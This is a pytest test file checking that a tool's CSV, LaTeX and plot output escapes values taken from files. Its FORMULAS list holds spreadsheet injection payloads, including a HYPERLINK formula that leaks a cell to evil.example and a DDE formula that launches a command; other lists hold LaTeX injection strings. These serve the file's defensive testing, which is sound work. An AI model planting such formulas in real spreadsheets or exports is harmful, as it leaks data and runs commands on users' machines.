"""Output built from file values is inert in every format (issue 21, item 2; issue 26's output tests).

csv/tsv: a cell a spreadsheet would evaluate (`=…`, `+…`, `-…`, `@…`) is written as text, numbers
stay numbers, and any string survives Python's csv reader. LaTeX: every special is escaped (checked
by a tokenizer that always runs, and by pdflatex where installed) and no row can feed `[` or `*`
to the `\\\\` or rule before it. Plot: text from files is drawn literally, bounded, and a label
matplotlib cannot draw is a warning, never a failed figure.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from conftest import run_cli
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from results_support import write_run

from mckpt.view.output import Output, latex_table
from mckpt.view.text import clean

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1)', "=2+5", "+1+1", "-2+3", "@SUM(1,1)", "=cmd|' /C calc'!A0",
            "-x", "+", "=", "@"]


@pytest.fixture(autouse=True)
def own_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MCKPT_CACHE", str(tmp_path / "cache"))


def _spreadsheet_safe(cell: str) -> bool:
    """What a spreadsheet would not evaluate: text not starting like a formula, or one number."""
    return not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(
        r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell) is not None


def _expected_csv(value: str) -> str:
    v = clean(value)
    return v if _spreadsheet_safe(v) else "'" + v


# --- csv / tsv -------------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_results_csv_cells_from_files_are_text_to_a_spreadsheet(tmp_path: Path, fmt: str) -> None:
    """A grouping arg holding a formula is written with a leading `'`; the accuracy columns, BWT
    included (negative), stay numbers."""
    for i, f in enumerate(FORMULAS[:6]):
        write_run(tmp_path, "er", 200, 0, hour=i, opt=f)
    r = run_cli("results", str(tmp_path), "--by", "opt", "-f", fmt)
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout), delimiter="," if fmt == "csv" else "\t"))
    assert sorted(row["opt"] for row in rows) == sorted("'" + f for f in FORMULAS[:6])
    for row in rows:
        assert all(_spreadsheet_safe(c) for c in row.values()), row
        bwt = row["class_il_bwt_mean"]
        assert float(bwt) < 0 and bwt.startswith("-")  # a negative number is not quoted as text


def test_list_csv_cells_from_file_names_are_text(tmp_path: Path) -> None:
    write_run(tmp_path, "=2+5", 200, 0)
    write_run(tmp_path, "@SUM(1,1)", 200, 1, hour=1)
    r = run_cli("list", str(tmp_path), "-f", "csv")
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert {row["model"] for row in rows} == {"'=2+5", "'@SUM(1,1)"}
    assert all(_spreadsheet_safe(c) for row in rows for c in row.values())


@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.lists(st.lists(st.one_of(st.text(), st.sampled_from(FORMULAS), st.floats(allow_nan=False),
                                   st.integers()), min_size=3, max_size=3), min_size=1, max_size=4),
       st.sampled_from(["csv", "tsv"]))
def test_csv_round_trips_any_string_with_the_formula_rule(rows: list[list[object]], fmt: str) -> None:
    """Whatever a file puts in a cell, Python's csv reader gets back the cleaned text (with a `'`
    before a formula), one row per row; numbers as their str()."""
    buf = io.StringIO()
    Output(fmt=fmt, stream=buf).table(["a", "=b", "c"], rows)
    back = list(csv.reader(io.StringIO(buf.getvalue(), newline=""), delimiter="," if fmt == "csv" else "\t"))
    assert back[0] == ["a", "'=b", "c"]
    want = [[_expected_csv(str(c)) for c in r] for r in rows]  # -inf is no number to a spreadsheet
    assert back[1:] == want


# --- LaTeX -----------------------------------------------------------------------------------------

# How each escape reads back: a tokenizer of what mckpt may write in a cell, and nothing else.
_CONTROL_WORDS = {"textbackslash": "\\", "textasciitilde": "~", "textasciicircum": "^", "ldots": "…"}
_CONTROL_SYMBOLS = {"&": "&", "%": "%", "$": "$", "#": "#", "_": "_", "{": "{", "}": "}"}
_MATH = {r"\pm": "±", r"\times": "×", r"\to": "→", r"\leftarrow": "←", r"\|": "‖", r"\Delta": "Δ", r"\neq": "≠"}


def detex(cell: str) -> str:
    """The text a LaTeX cell prints, reading it as TeX would; AssertionError on anything TeX would
    act on (a raw special, an unknown command, an unbalanced group)."""
    out, i = [], 0
    while i < len(cell):
        ch = cell[i]
        if ch == "\\":
            m = re.match(r"\\([A-Za-z]+)\{\}", cell[i:])
            if m:
                assert m[1] in _CONTROL_WORDS, m[0]
                out.append(_CONTROL_WORDS[m[1]])
                i += len(m[0])
                continue
            assert cell[i + 1: i + 2] in _CONTROL_SYMBOLS, cell[i:i + 12]
            out.append(_CONTROL_SYMBOLS[cell[i + 1]])
            i += 2
        elif ch == "$":
            end = cell.index("$", i + 1)
            assert cell[i + 1:end] in _MATH, cell[i:end + 1]
            out.append(_MATH[cell[i + 1:end]])
            i = end + 1
        else:
            assert ch not in "~^&%#_{}", f"raw {ch!r} in {cell!r}"
            out.append(ch)
            i += 1
    return "".join(out)


def _rows_of(tex: str) -> list[str]:
    lines = tex.splitlines()
    return lines[lines.index(r"\toprule") + 1: lines.index(r"\bottomrule")]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from("~^\\&%$#_{}[]* ±…"),
                                 max_size=12), min_size=2, max_size=2), min_size=1, max_size=4))
def test_latex_cells_read_back_as_written(rows: list[list[str]]) -> None:
    """Every cell of a latex table tokenizes to exactly the text it came from (escaped as shown
    elsewhere); no row starts with `[` or `*`, which `\\\\` and `\\midrule` would swallow."""
    buf = io.StringIO()
    Output(fmt="latex", stream=buf).table(["h1", "h2"], rows)
    body = [line for line in _rows_of(buf.getvalue()) if line != r"\midrule"]
    for line, want in zip(body, [["h1", "h2"], *rows], strict=True):
        assert not line.lstrip().startswith(("[", "*")), line
        assert line.endswith(r" \\")
        cells = line[: -len(r" \\")].removeprefix("{}").split(" & ")
        assert [detex(c) for c in cells] == [clean(w) for w in want]


def test_latex_row_starting_with_a_bracket_is_a_cell_not_an_argument() -> None:
    tex = latex_table(["a", "b"], [["[35, 45]", "1"], ["*", "2"], [" [x", "3"]])
    assert _rows_of(tex)[2:] == [r"{}[35, 45] & 1 \\", r"{}* & 2 \\", r"{} [x & 3 \\"]


SPECIALS = ["~", "^", "\\", "&", "%", "$", "#", "_", "{", "}", "[35, 45]", "[", "a~b^c", "100%", "x_1 & y",
            "\\end{tabular}", "*"]


def _pdflatex(tmp_path: Path, tex: str) -> subprocess.CompletedProcess[str]:
    have_booktabs = subprocess.run(["kpsewhich", "booktabs.sty"], capture_output=True, text=True).stdout.strip()
    # Without booktabs its rules are plain \\hline (which looks for no `[`); `\\\\`'s look-ahead is tested.
    rules = ("\\usepackage{booktabs}" if have_booktabs else
             "\\let\\toprule\\hline\\let\\midrule\\hline\\let\\bottomrule\\hline")
    doc = tmp_path / "t.tex"
    doc.write_text(f"\\documentclass{{article}}\n{rules}\n\\begin{{document}}\n{tex}\\end{{document}}\n")
    return subprocess.run(["pdflatex", "-interaction=nonstopmode", "-halt-on-error", doc.name], cwd=tmp_path,
                          capture_output=True, text=True, timeout=120)


@pytest.mark.skipif(shutil.which("pdflatex") is None, reason="pdflatex not installed (the tokenizer test runs)")
def test_latex_specials_compile_with_pdflatex(tmp_path: Path) -> None:
    rows = [[s, f"v{s}"] for s in SPECIALS]
    tex = latex_table(["[head", "b"], rows)
    p = _pdflatex(tmp_path, tex)
    assert p.returncode == 0, p.stdout[-2000:]
    assert "Missing" not in p.stdout and "Runaway" not in p.stdout


@pytest.mark.skipif(shutil.which("pdflatex") is None, reason="pdflatex not installed (the tokenizer test runs)")
def test_results_latex_with_list_valued_group_compiles(tmp_path: Path) -> None:
    """The finding: a list-valued grouping arg (`[35, 45]`) first in a row after `\\\\`."""
    runs = tmp_path / "runs"
    write_run(runs, "er", 200, 0, milestones=[35, 45])
    write_run(runs, "er", 200, 1, hour=1, milestones=[10, 20])
    r = run_cli("results", str(runs), "--by", "milestones", "-f", "latex")
    assert r.returncode == 0, r.stderr
    assert "\n{}[35,45] & " in r.stdout
    p = _pdflatex(tmp_path, r.stdout)
    assert p.returncode == 0, p.stdout[-2000:]


# --- plot ------------------------------------------------------------------------------------------

HOSTILE_LABELS = ["$\\foo{$", "$x^{$", "$$", "a$b$c", "$" + "\\alpha" * 8000 + "$", "\\", "{", "_^%&#~",
                  "a\udc80b"]


def test_plot_draws_file_text_literally_bounded_and_never_fails(tmp_path: Path) -> None:
    """Groups named by hostile arg values: mathtext that matplotlib refuses, a 59 KiB valid one, a lone
    surrogate (which matplotlib cannot draw at all): the figure is written, labels literal and short."""
    pytest.importorskip("matplotlib")
    for i, label in enumerate(HOSTILE_LABELS[:8]):
        write_run(tmp_path / "runs", "er", 200, 0, hour=i, opt=label)
    svg = tmp_path / "f.svg"
    r = run_cli("plot", str(tmp_path / "runs"), "--by", "opt", "-o", str(svg))
    assert r.returncode == 0, r.stderr
    text = svg.read_text()
    assert "opt=$\\foo{$" in text and "opt=$x^{$" in text and "opt=a$b$c" in text
    drawn = re.findall(r">([^<]*opt=[^<]*)<", text)
    assert len(drawn) == 8 and max(len(t) for t in drawn) <= 90, [len(t) for t in drawn]
    assert any(t.endswith("…") for t in drawn)


def test_plot_label_matplotlib_cannot_draw_is_a_warning(tmp_path: Path) -> None:
    pytest.importorskip("matplotlib")
    write_run(tmp_path / "runs", "er", 200, 0, opt="a\udc80b")
    write_run(tmp_path / "runs", "er", 200, 1, hour=1, opt="plain")
    png = tmp_path / "f.png"
    r = run_cli("plot", str(tmp_path / "runs"), "--by", "opt", "-o", str(png))
    assert r.returncode == 0, r.stderr
    assert "warning:" in r.stderr and "shown escaped" in r.stderr and "Traceback" not in r.stderr
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(alphabet=st.characters() | st.sampled_from("$\\{}^_"), max_size=200))
def test_plot_matrix_title_of_any_file_name(tmp_path: Path, name: str) -> None:
    """`plot --matrix` titles the figure with the file's name: any name draws, as written."""
    pytest.importorskip("matplotlib")
    from mckpt.view.plot import FigureSpec, literal, plot_matrix

    warned: list[str] = []
    out = tmp_path / "m.svg"
    plot_matrix([[90.0], [80.0, 70.0]], [], FigureSpec(str(out), force=True), name, warn=warned.append)
    assert out.stat().st_size > 0
    assert len(literal(name)) <= 80
